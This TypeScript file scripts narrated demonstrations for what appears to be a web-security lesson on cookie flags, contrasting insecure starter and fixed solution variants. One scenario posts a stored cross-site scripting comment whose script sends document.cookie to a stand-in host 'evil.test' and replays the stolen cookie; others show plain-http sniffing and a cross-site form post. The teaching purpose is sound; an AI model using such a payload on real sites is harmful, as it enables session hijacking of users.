import type { Recordings } from "../kit/build/recording.ts";

export default {
  "login-starter": {
    variant: "starter",
    async run({ alice, say }) {
      say("The cookie holds an ID that nobody can guess. But no flag says who may read the cookie.");
      await alice.login();
      await alice.get("/dashboard");
    },
  },
  "login-solution": {
    variant: "solution",
    async run({ alice, say }) {
      say("The same login. Three attributes more. The browser never sends them back to the server.");
      await alice.login();
      await alice.get("/dashboard");
    },
  },
  "script-reads-cookie": {
    variant: "starter",
    async run({ alice, thief, say }) {
      say("The thief is logged in as bob, and posts a comment.");
      await thief.login("bob", "builder");
      await thief.post("/comments", { text: '<script>fetch("https://evil.test/?" + document.cookie)</script>' });
      say("Alice logs in and reads the comments.");
      await alice.login();
      await alice.get("/comments");
      const cookie = alice.documentCookie("/comments");
      say(`The script runs in her browser. It reads ${cookie}, and sends it to the thief.`);
      await thief.get("/dashboard", { headers: { cookie } });
    },
  },
  listener: {
    variant: "starter",
    async run({ alice, say }) {
      await alice.login();
      say("Alice types the address without https. A thief who listens on the network reads the Cookie header.");
      await alice.get("/", { scheme: "http:" });
    },
  },
  "listener-secure": {
    variant: "solution",
    async run({ alice, say }) {
      await alice.login();
      say("With Secure the browser sends the same request without the cookie.");
      await alice.get("/", { scheme: "http:" });
    },
  },
  "cross-site-form": {
    variant: "starter",
    async run({ alice, thief, say }) {
      await alice.login();
      say("Alice visits the thief's page. A form on this page sends itself by POST, and her browser adds her cookie.");
      await alice.post("/comments", { text: "hello", attach: "note" }, { from: "cross-site" });
      say("The thief reads the comments. He needs no cookie for that.");
      await thief.get("/comments");
    },
  },
} satisfies Recordings;
